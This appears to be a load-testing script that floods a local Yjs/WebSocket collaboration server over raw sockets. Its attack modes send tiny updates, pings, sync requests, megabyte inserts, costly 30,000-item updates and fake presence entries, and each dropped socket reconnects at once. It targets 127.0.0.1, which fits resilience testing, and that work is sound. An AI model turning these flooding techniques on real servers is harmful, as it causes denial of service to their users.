import { connect } from 'node:net';
import * as encoding from 'lib0/encoding';
import * as Y from 'yjs';
import { step1Frame, step2Frame, updateFrame } from './frames.ts';

// Somebody who says as much as the line carries, in a process of his own: node flooder.ts <port> <attack> <sockets>.
const [port, attack, sockets] = process.argv.slice(2);

const FINAL_BINARY = 0x82;
const PING = 0x89;

/** A WebSocket frame of a client, masked with zeros. */
function framed(payload: Uint8Array, kind = FINAL_BINARY): Buffer {
  const { byteLength } = payload;
  const header = Buffer.alloc(byteLength < 126 ? 6 : byteLength < 65_536 ? 8 : 14);
  header[0] = kind;
  header[1] = 0x80 | (byteLength < 126 ? byteLength : byteLength < 65_536 ? 126 : 127);
  if (header.length === 8) header.writeUInt16BE(byteLength, 2);
  if (header.length === 14) header.writeBigUInt64BE(BigInt(byteLength), 2);
  return Buffer.concat([header, payload]);
}
const often = (frame: Buffer): Buffer =>
  Buffer.concat(Array.from({ length: Math.ceil(65_536 / frame.length) }, () => frame));

/** What is said next, for ever. Everything is allowed by the protocol. */
type Script = () => Buffer;

const nothingNew = (): Buffer => framed(updateFrame(new Uint8Array([0, 0])));

/** Thirty thousand pieces in 300 KB, which each time must be looked at one by one. */
let pieces: Uint8Array | undefined;
function manyPieces(): Uint8Array {
  if (pieces) return pieces;
  const doc = new Y.Doc();
  const list = doc.getArray<number>('n');
  doc.transact(() => {
    for (let i = 0; i < 30_000; i++) list.insert(0, [i]);
  });
  pieces = Y.encodeStateAsUpdate(doc);
  return pieces;
}

const scripts: Record<string, () => Script> = {
  tiny: () => {
    const chunk = often(nothingNew());
    return () => chunk;
  },
  questions: () => {
    const chunk = often(framed(new Uint8Array([3])));
    return () => chunk;
  },
  pings: () => {
    const chunk = often(framed(new Uint8Array(), PING));
    return () => chunk;
  },
  megabytes: () => {
    const doc = new Y.Doc();
    let made: Uint8Array = new Uint8Array();
    doc.on('update', (update) => (made = update));
    return () => {
      doc.getText('t').insert(0, 'x'.repeat(999_900));
      return framed(updateFrame(made));
    };
  },
  costly: () => {
    const chunk = framed(step2Frame(manyPieces()));
    return () => chunk;
  },
  joins: () => {
    const chunk = often(framed(step1Frame(new Uint8Array([0]))));
    let first: Buffer | undefined = framed(updateFrame(manyPieces()));
    return () => {
      const next = first ?? chunk;
      first = undefined;
      return next;
    };
  },
  presences: () => {
    const entries = encoding.encode((encoder) => {
      encoding.writeVarUint(encoder, 1_500);
      for (let i = 0; i < 1_500; i++) {
        encoding.writeVarUint(encoder, i);
        encoding.writeVarUint(encoder, 1);
        encoding.writeVarString(encoder, '{"cursor":{"anchor":null}}');
      }
    });
    const chunk = framed(
      encoding.encode((encoder) => {
        encoding.writeVarUint(encoder, 1);
        encoding.writeVarUint8Array(encoder, entries);
      }),
    );
    return () => chunk;
  },
};

function assault(next: Script): void {
  const socket = connect(Number(port), '127.0.0.1');
  socket.write(
    'GET /collab/list.hit?as=he HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
      'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
  );
  const talk = (): void => {
    if (!socket.destroyed && socket.write(next())) setImmediate(talk);
  };
  socket.once('data', () => {
    socket.on('drain', talk);
    talk();
  });
  socket.resume();
  socket.on('error', () => undefined);
  // Who is thrown out comes back at once.
  socket.on('close', () => setTimeout(() => assault(next), 100));
}

const script = scripts[attack ?? '']!;
for (let i = 0; i < Number(sockets); i++) assault(script());
console.log('at it');
